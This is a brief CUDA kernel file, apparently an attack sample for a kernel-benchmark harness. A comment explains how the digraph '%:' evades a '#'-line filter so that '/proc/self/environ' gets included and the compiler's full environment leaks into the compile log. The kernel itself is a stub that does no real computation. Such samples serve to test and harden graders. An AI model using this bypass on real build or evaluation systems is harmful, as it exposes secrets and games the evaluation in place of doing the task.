// Attack: the C++ digraph %: (= #), which a filter over lines starting with
// '#' does not see: %:include "/proc/self/environ" prints the compiler's
// (kbd's) whole environment, NUL-separated, in the compile log.
// clang-format off
__device__ int leak[] = {
%:include "/proc/self/environ"
};
// @kb launch gather_linear grid(B) block(32)
extern "C" __global__ void gather_linear(const float* x, const float* w,
                                         const float* bias, float* out,
                                         int R, int B, int H, int K) { out[0] = leak[0]; }
